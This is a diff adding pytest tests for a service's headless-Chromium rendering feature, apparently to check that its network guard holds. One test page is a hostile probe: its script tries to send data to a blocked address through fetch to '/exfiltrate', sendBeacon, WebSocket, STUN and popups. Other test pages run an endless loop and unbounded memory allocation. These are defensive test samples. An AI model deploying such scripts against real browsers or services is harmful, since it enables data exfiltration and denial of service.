@@ -1,0 +1,380 @@
+"""``render: true``: a page's scripts run in Debian's Chromium, and every request of the page goes
+through sift's guard (docs/rendering.md)."""
+
+from __future__ import annotations
+
+import ipaddress
+import json
+import os
+import socket
+import threading
+import time
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+from werkzeug import Request, Response
+
+from batch import runner
+from batch.api.validation import validate_targets
+from batch.fetch import render
+from batch.fetch.targets import TargetOptions, parse_target
+from batch.mcp.tools import OPTION_PROPERTIES
+from batch.models import BatchJob
+
+from .deployment import Deployment, wait_for
+
+CHROMIUM = Path("/usr/bin/chromium")
+pytestmark = [
+    pytest.mark.browser,
+    pytest.mark.django_db(transaction=True),
+    pytest.mark.skipif(
+        not CHROMIUM.exists() and os.environ.get("CI") != "true",
+        reason=f"no Chromium at {CHROMIUM}; apt-get install -y chromium",
+    ),
+]
+ONLY_127_0_0_1 = (ipaddress.ip_network("127.0.0.1/32"),)
+ARTICLE_TEXT = (
+    "Neap tides come a week after the spring tides, when the Sun and the Moon pull at right angles."
+)
+SCRIPTED_PAGE = """<!doctype html><html lang="en"><head><title>Tides</title></head><body>
+<main><article id="story"><h1>Tides</h1><p>Loading…</p></article></main>
+<script>
+fetch("/story.json").then(r => r.json()).then(story => {
+  const article = document.getElementById("story");
+  for (const text of story.paragraphs) {
+    const p = document.createElement("p"); p.textContent = text; article.appendChild(p);
+  }
+});
+</script></body></html>"""
+STORY = {"paragraphs": [ARTICLE_TEXT, "Their range is the smallest of the month, and harbours plan by it."]}
+
+
+@pytest.fixture
+def render_settings(settings) -> None:
+    settings.SIFT_FETCH_ALLOW_CIDRS = ONLY_127_0_0_1
+    settings.SIFT_RENDER_TIMEOUT = 10
+    settings.SIFT_CACHE_TTL = 900
+
+
+def _fetch(client, **params):
+    return client.get("/v1/fetch", **params)
+
+
+def test_text_written_by_a_script_appears_with_render_and_not_without(agent, httpserver, render_settings):
+    _, client = agent
+    httpserver.expect_request("/tides").respond_with_data(SCRIPTED_PAGE, content_type="text/html")
+    httpserver.expect_request("/story.json").respond_with_json(STORY)
+    url = httpserver.url_for("/tides")
+
+    plain = _fetch(client, url=url)
+    rendered = _fetch(client, url=url, render="true")
+
+    assert plain.status_code == 200, plain.content
+    assert ARTICLE_TEXT not in plain.json()["content"]
+    assert not plain.json().get("rendered")
+    assert rendered.status_code == 200, rendered.content
+    assert ARTICLE_TEXT in rendered.json()["content"]
+    assert rendered.json()["rendered"] is True
+
+
+class ConnectionRecorder:
+    """A TCP listener on 127.0.0.2 that only counts the connections it is offered."""
+
+    def __init__(self) -> None:
+        self.sock = socket.create_server(("127.0.0.2", 0))
+        self.port = self.sock.getsockname()[1]
+        self.connections = 0
+        self.sock.settimeout(0.2)
+        self.running = True
+        self.thread = threading.Thread(target=self._accept, daemon=True)
+        self.thread.start()
+
+    def _accept(self) -> None:
+        while self.running:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            self.connections += 1
+            conn.close()
+
+    def close(self) -> None:
+        self.running = False
+        self.thread.join()
+        self.sock.close()
+
+
+@pytest.fixture
+def blocked_server() -> Iterator[ConnectionRecorder]:
+    recorder = ConnectionRecorder()
+    yield recorder
+    recorder.close()
+
+
+def test_requests_to_a_blocked_address_never_reach_it_and_the_render_succeeds(
+    agent, httpserver, render_settings, blocked_server
+):
+    _, client = agent
+    elsewhere = f"127.0.0.2:{blocked_server.port}"
+    page = f"""<!doctype html><html><head><title>Probe</title>
+<link rel="stylesheet" href="http://{elsewhere}/style.css"></head><body>
+<main><article><h1>Probe</h1>
+<p id="out">The harbour master posts the tide table every Monday.</p></article></main>
+<iframe src="http://{elsewhere}/frame"></iframe>
+<img src="http://{elsewhere}/pixel.png">
+<script src="http://{elsewhere}/script.js"></script>
+<script>
+fetch("http://{elsewhere}/exfiltrate").catch(() => {{}});
+navigator.sendBeacon && navigator.sendBeacon("http://{elsewhere}/beacon", "x");
+try {{ new WebSocket("ws://{elsewhere}/socket"); }} catch (e) {{}}
+const ice = {{iceServers: [{{urls: "stun:{elsewhere}"}}]}};
+const pc = window.RTCPeerConnection ? new RTCPeerConnection(ice) : null;
+if (pc) {{ pc.createDataChannel("x"); pc.createOffer().then(o => pc.setLocalDescription(o)); }}
+window.open("http://{elsewhere}/popup");
+document.getElementById("out").textContent += " Rendered by its script.";
+</script></body></html>"""
+    httpserver.expect_request("/probe").respond_with_data(page, content_type="text/html")
+
+    response = _fetch(client, url=httpserver.url_for("/probe"), render="true")
+    time.sleep(1)  # anything the browser sent late would have arrived by now
+
+    assert response.status_code == 200, response.content
+    assert "Rendered by its script." in response.json()["content"]
+    assert blocked_server.connections == 0
+
+
+def test_an_endless_script_times_out_within_the_render_timeout_and_the_next_render_works(
+    agent, httpserver, render_settings, settings
+):
+    _, client = agent
+    settings.SIFT_RENDER_TIMEOUT = 4
+    httpserver.expect_request("/spin").respond_with_data(
+        "<html><body><p>spin</p><script>while (true) {}</script></body></html>", content_type="text/html"
+    )
+    httpserver.expect_request("/tides").respond_with_data(SCRIPTED_PAGE, content_type="text/html")
+    httpserver.expect_request("/story.json").respond_with_json(STORY)
+
+    started = time.monotonic()
+    spun = _fetch(client, url=httpserver.url_for("/spin"), render="true")
+    took = time.monotonic() - started
+    after = _fetch(client, url=httpserver.url_for("/tides"), render="true")
+
+    assert spun.status_code == 504, spun.content
+    assert spun.json()["code"] == "timeout"
+    assert took < 4 + 2 + 3  # the render timeout, its 2 s margin, and the plain fetch before it
+    assert after.status_code == 200, after.content
+    assert ARTICLE_TEXT in after.json()["content"]
+
+
+def test_a_page_that_allocates_without_end_ends_filter_timeout(agent, httpserver, render_settings, settings):
+    _, client = agent
+    settings.SIFT_RENDER_TIMEOUT = 30
+    hog = (
+        "<html><body><script>const a = [];"
+        " while (true) { a.push(new Array(1e6).fill(Math.random())); }</script></body></html>"
+    )
+    httpserver.expect_request("/hog").respond_with_data(hog, content_type="text/html")
+
+    response = _fetch(client, url=httpserver.url_for("/hog"), render="true")
+
+    assert response.status_code == 422, response.content
+    assert response.json()["code"] == "filter_timeout"
+
+
+def _browser_pids() -> list[int]:
+    """Chromium processes started by this process's render children."""
+    pids = []
+    for child in list(render.running):
+        for pid in render._tree_pids(child):
+            try:
+                if "chromium" in Path(f"/proc/{pid}/comm").read_text():
+                    pids.append(pid)
+            except OSError:
+                continue
+    return pids
+
+
+def test_a_browser_killed_mid_render_is_retried_and_the_next_render_succeeds(
+    agent, httpserver, render_settings
+):
+    _, client = agent
+    killed: list[int] = []
+
+    def story(request: Request) -> Response:
+        if not killed:
+            killed.extend(_browser_pids())
+            for pid in killed:
+                os.kill(pid, 9)
+        return Response(json.dumps(STORY), content_type="application/json")
+
+    httpserver.expect_request("/tides").respond_with_data(SCRIPTED_PAGE, content_type="text/html")
+    httpserver.expect_request("/story.json").respond_with_handler(story)
+
+    first = _fetch(client, url=httpserver.url_for("/tides"), render="true")
+
+    assert killed, "the test found no browser to kill"
+    assert first.status_code == 200, first.content
+    assert ARTICLE_TEXT in first.json()["content"]
+
+
+class CountingUpstream(ThreadingHTTPServer):
+    """Serves the scripted page; its story answers slowly and counts how many are asked at once.
+
+    A story is asked only by a browser rendering the page, so that count is the renders at once.
+    """
+
+    daemon_threads = True
+
+    def __init__(self) -> None:
+        super().__init__(("127.0.0.1", 0), _CountingHandler)
+        self.lock = threading.Lock()
+        self.inflight = 0
+        self.most = 0
+        self.stories = 0
+
+
+class _CountingHandler(BaseHTTPRequestHandler):
+    server: CountingUpstream
+
+    def do_GET(self) -> None:
+        if self.path.startswith("/story.json"):
+            with self.server.lock:
+                self.server.inflight += 1
+                self.server.stories += 1
+                self.server.most = max(self.server.most, self.server.inflight)
+            time.sleep(1.5)
+            with self.server.lock:
+                self.server.inflight -= 1
+            body, content_type = json.dumps(STORY).encode(), "application/json"
+        else:
+            body, content_type = SCRIPTED_PAGE.encode(), "text/html"
+        self.send_response(200)
+        self.send_header("Content-Type", content_type)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+@pytest.mark.cluster
+def test_a_batch_of_six_renders_on_two_workers_never_renders_more_than_render_slots_at_once(tmp_path, agent):
+    caller, _ = agent
+    upstream = CountingUpstream()
+    threading.Thread(target=upstream.serve_forever, daemon=True).start()
+    port = upstream.server_address[1]
+    deployment = Deployment(
+        tmp_path,
+        {
+            "SIFT_BATCH_FETCH": "batch.adapter.fetch_target",
+            "SIFT_BATCH_WORKERS": "2",
+            "SIFT_RENDER_SLOTS": "1",
+            "SIFT_FETCH_ALLOW_CIDRS": "127.0.0.1/32",
+            "SIFT_BATCH_RETRY_WAIT": "0.5s",
+        },
+    )
+    deployment.start_cluster()
+    try:
+        targets: list[object] = [
+            {"url": f"http://127.0.0.1:{port}/tides?n={n}", "options": {"render": True}} for n in range(6)
+        ]
+        job = runner.submit(caller, validate_targets(targets)).job
+        wait_for(lambda: not BatchJob.objects.get(pk=job.pk).is_live, timeout=180, what="the job to finish")
+    finally:
+        deployment.stop_all()
+        upstream.shutdown()
+        upstream.server_close()
+    job.refresh_from_db()
+    assert (job.status, job.targets_done) == ("done", 6), deployment.log("cluster")[-3000:]
+    assert all(ARTICLE_TEXT in target.result["content"] for target in job.targets.all())
+    assert all(target.result["meta"]["rendered"] for target in job.targets.all())
+    assert upstream.stories >= 6
+    assert upstream.most == 1
+
+
+def test_render_is_an_option_of_every_mode_and_its_default_leaves_the_canonical_form_unchanged() -> None:
+    for mode in ("markdown", "text", "raw"):
+        options = {"mode": mode, "grep": "tide", "question": "when?", "render": True}
+        target = parse_target({"url": "https://example.org/a", "options": options})
+        assert target.options.render is True
+        assert target.to_dict()["options"]["render"] is True
+    plain = parse_target({"url": "https://example.org/a", "options": {"render": False}})
+    assert plain.to_dict() == {"url": "https://example.org/a", "options": {}}
+    assert TargetOptions().to_dict() == {}
+
+
+def test_render_must_be_a_boolean(agent) -> None:
+    _, client = agent
+    response = client.post("/v1/fetch", {"url": "https://example.org/a", "options": {"render": "yes"}})
+    assert response.status_code == 400, response.content
+    assert response.json()["details"][0]["field"] == "options.render"
+
+
+def test_render_is_in_the_openapi_schema_and_the_mcp_fetch_tool(client) -> None:
+    document = client.get("/v1/openapi.json").json()
+    assert "render" in json.dumps(document["components"]["schemas"])
+    assert any(p["name"] == "render" for p in document["paths"]["/v1/fetch"]["get"]["parameters"])
+    assert OPTION_PROPERTIES["render"]["type"] == "boolean"
+
+
+def test_without_chromium_a_render_answers_415_unsupported_and_a_plain_fetch_still_works(
+    agent, httpserver, render_settings, settings, tmp_path
+):
+    _, client = agent
+    settings.SIFT_RENDER_CHROMIUM = str(tmp_path / "no-chromium")
+    httpserver.expect_request("/tides").respond_with_data(SCRIPTED_PAGE, content_type="text/html")
+
+    refused = _fetch(client, url=httpserver.url_for("/tides"), render="true")
+    plain = _fetch(client, url=httpserver.url_for("/tides"))
+
+    assert refused.status_code == 415, refused.content
+    assert refused.json()["code"] == "unsupported"
+    assert "rendering is not available here" in refused.json()["error"]
+    assert refused.json()["hint"]
+    assert plain.status_code == 200
+
+
+def test_rendered_copies_are_cached_apart_from_raw_ones(agent, httpserver, render_settings):
+    _, client = agent
+    httpserver.expect_request("/tides").respond_with_data(SCRIPTED_PAGE, content_type="text/html")
+    httpserver.expect_request("/story.json").respond_with_json(STORY)
+    url = httpserver.url_for("/tides")
+
+    plain = _fetch(client, url=url)
+    rendered = _fetch(client, url=url, render="true")
+    rendered_again = _fetch(client, url=url, render="true")
+    plain_again = _fetch(client, url=url)
+
+    assert (plain.json()["cached"], rendered.json()["cached"]) == (False, False)
+    assert (rendered_again.json()["cached"], rendered_again.json()["rendered"]) == (True, True)
+    assert ARTICLE_TEXT in rendered_again.json()["content"]
+    assert plain_again.json()["cached"] is True
+    assert ARTICLE_TEXT not in plain_again.json()["content"]
+
+
+def test_the_browser_stays_warm_between_renders_and_is_replaced_after_a_timeout(
+    agent, httpserver, render_settings, settings
+):
+    _, client = agent
+    settings.SIFT_RENDER_TIMEOUT = 4
+    for path in ("/a", "/b", "/c"):
+        httpserver.expect_request(path).respond_with_data(SCRIPTED_PAGE, content_type="text/html")
+    httpserver.expect_request("/story.json").respond_with_json(STORY)
+    httpserver.expect_request("/spin").respond_with_data(
+        "<html><body><script>while (true) {}</script></body></html>", content_type="text/html"
+    )
+
+    first = _fetch(client, url=httpserver.url_for("/a"), render="true")
+    children_first = set(render.running)
+    second = _fetch(client, url=httpserver.url_for("/b"), render="true")
+    children_second = set(render.running)
+    spun = _fetch(client, url=httpserver.url_for("/spin"), render="true")
+    third = _fetch(client, url=httpserver.url_for("/c"), render="true")
+
+    assert [r.status_code for r in (first, second, spun, third)] == [200, 200, 504, 200]
+    assert len(children_first) == 1
+    assert children_second == children_first
+    assert set(render.running).isdisjoint(children_first)
